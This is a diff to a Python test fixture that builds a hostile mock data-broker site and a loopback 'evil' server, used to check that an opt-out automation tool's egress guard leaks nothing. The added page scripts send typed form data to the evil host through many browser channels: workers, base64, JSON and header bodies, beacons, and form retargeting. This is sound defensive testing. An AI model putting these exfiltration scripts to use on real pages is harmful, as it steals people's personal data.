@@ -10,12 +10,18 @@ one (a timeout, a guard), end the case with a reason a person can act on, and go
 - ``/download``: answers with a file download instead of a page;
 - ``/exfil``: an opt-out form whose script sends what is typed into it to the evil host by every
   road a page has (fetch, XHR, sendBeacon, an image, a WebSocket, EventSource, a service worker,
-  and at last the form itself, posted there; ``/exfil-form``: a plain form whose action is
-  the evil host (for the http channel, which runs no script).
+  a SharedWorker, a dedicated Worker, base64 and JSON-escaped bodies, a header, and at last the
+  form itself, posted there; ``/exfil-form``: a plain form whose action is the evil host (for the
+  http channel, which runs no script);
+- ``/wall``: a Cloudflare-style "Just a moment..." challenge (403); ``/busy``: 429 with
+  ``Retry-After: 86400``;
+- ``/pings``: a well-behaved opt-out form on a page that, like every real site, pings analytics
+  hosts (the evil host) with nothing of the person's: blocked quietly, the case goes through.
 
 The **evil host** is a real second HTTP server on another loopback port (``EvilServer``), not the
 lab's proxy sink: browsers reach loopback addresses directly, bypassing the proxy, so only optout's
-own egress guard stands between a page and it. It records every request and WebSocket (method,
+own egress guard stands between a page and it. (Playwright sends loopback traffic through the proxy
+too; the lab hands requests for the evil server's port to it, as a forward proxy would.) It records every request and WebSocket (method,
 path, body size); tests assert it received nothing.
 """
 
@@ -43,7 +49,7 @@ class EvilServer:
 
     async def start(self) -> None:
         app = web.Application()
-        app.router.add_route("*", "/{tail:.*}", self._any)
+        app.router.add_route("*", "/{tail:.*}", self.handle)
         self._runner = web.AppRunner(app, access_log=None, shutdown_timeout=1)
         await self._runner.setup()
         await web.TCPSite(self._runner, "127.0.0.1", 0).start()
@@ -54,7 +60,7 @@ class EvilServer:
             await self._runner.cleanup()
             self._runner = None
 
-    async def _any(self, request: web.Request) -> web.StreamResponse:
+    async def handle(self, request: web.Request) -> web.StreamResponse:
         record = {"time": dt.datetime.now(dt.UTC).isoformat(), "method": request.method, "path": request.path,
                   "query_size": len(request.query_string), "body_size": 0, "websocket": False}
         self.received.append(record)
@@ -85,10 +91,13 @@ class Hostile(Site):
         self.evil = EvilServer()
         self._stopping = asyncio.Event()
         self.received_forms = 0  # real opt-out forms posted to this broker
+        self.walls = 0  # answers from /wall and /busy
 
     async def start(self) -> None:
         self._stopping = asyncio.Event()
         await self.evil.start()
+        assert self.evil.url
+        self.lab.loopback[int(self.evil.url.rsplit(":", 1)[1])] = self.evil.handle
 
     async def stop(self) -> None:
         self._stopping.set()
@@ -98,6 +107,7 @@ class Hostile(Site):
         super().reset()
         self.evil.received.clear()
         self.received_forms = 0
+        self.walls = 0
 
     def render_listing(self, listing: Listing) -> str:  # no search: opt-out pages only
         return ""
@@ -115,6 +125,11 @@ class Hostile(Site):
             web.get("/exfil", self.exfil),
             web.get("/exfil-form", self.exfil_form),
             web.get("/sw.js", self.service_worker),
+            web.get("/shared-worker.js", self.worker_script),
+            web.get("/worker.js", self.worker_script),
+            web.get("/pings", self.pings),
+            web.get("/wall", self.wall),
+            web.get("/busy", self.busy),
             web.post("/optout", self.optout),
         ]
 
@@ -189,12 +204,54 @@ document.getElementById('optout-form').addEventListener('submit', (ev) => {{
     () => {{ const f = document.createElement('iframe'); f.src = '{evil}/frame?' + text; document.body.appendChild(f); }},
     () => {{ const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '{evil}/prefetch?' + text;
              document.head.appendChild(l); }},
+    () => {{ const w = new SharedWorker('/shared-worker.js'); w.port.postMessage(text); }},
+    () => {{ const w = new Worker('/worker.js'); w.postMessage(text); }},
+    () => fetch('{evil}/b64', {{method: 'POST', body: btoa(unescape(encodeURIComponent(text))), mode: 'no-cors'}}),
+    () => fetch('{evil}/json', {{method: 'POST', mode: 'no-cors',
+                                 body: JSON.stringify(Object.fromEntries(data)).replace(/[\u007f-\uffff]/g,
+                                   c => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0'))}}),
+    () => fetch('{evil}/header', {{headers: {{'X-Visitor': btoa(unescape(encodeURIComponent(text)))}}}}),
   ];
   for (const t of tries) {{ try {{ t(); }} catch (e) {{}} }}
-  setTimeout(() => {{ form.action = '{evil}/form'; form.submit(); }}, 300);
+  // last, once the other roads had time to leave (a navigation cancels what is in flight)
+  setTimeout(() => {{ form.action = '{evil}/form'; form.submit(); }}, 1500);
 }});
 """
         return self.page("Opt out", self._form("/optout"), script=script)
+
+    async def worker_script(self, request: web.Request) -> web.Response:
+        # a SharedWorker hears on a port, a dedicated Worker on itself: both post what they get
+        road = "shared-worker" if request.path.startswith("/shared") else "worker"
+        body = (f"const send = t => fetch('{self.evil.url}/{road}?' + t);"
+                "self.onconnect = e => { e.ports[0].onmessage = m => send(m.data); };"
+                "self.onmessage = m => send(m.data);")
+        return web.Response(text=body, content_type="application/javascript")
+
+    async def pings(self, request: web.Request) -> web.Response:
+        evil = self.evil.url
+        script = f"""
+const hit = {{event: 'pageview', page: location.pathname, t: Date.now()}};
+navigator.sendBeacon('{evil}/collect', JSON.stringify(hit));
+fetch('{evil}/perf', {{method: 'POST', body: 'lcp=1200&cls=0.01', mode: 'no-cors'}}).catch(() => {{}});
+new Image().src = '{evil}/pixel.gif?ev=view&sid=' + Math.random().toString(36).slice(2);
+document.getElementById('optout-form').addEventListener('submit', () => {{
+  navigator.sendBeacon('{evil}/collect', JSON.stringify({{event: 'form_submit', form: 'optout-form'}}));
+}});
+"""
+        return self.page("Opt out", self._form("/optout"), script=script)
+
+    async def wall(self, request: web.Request) -> web.Response:
+        # a bot-protection challenge in place of the page, as Cloudflare serves it (403)
+        self.walls += 1
+        body = ("<!DOCTYPE html><html lang=\"en-US\"><head><title>Just a moment...</title></head><body>"
+                "<noscript>Enable JavaScript and cookies to continue</noscript>"
+                "<script>window._cf_chl_opt={cType: 'managed'};</script></body></html>")
+        return web.Response(status=403, text=body, content_type="text/html")
+
+    async def busy(self, request: web.Request) -> web.Response:
+        # come back tomorrow: a Retry-After no worker should sleep through
+        self.walls += 1
+        return web.Response(status=429, text="Too many requests", headers={"Retry-After": "86400"})
 
     async def exfil_form(self, request: web.Request) -> web.Response:
         return self.page("Opt out", self._form(f"{self.evil.url}/form"))
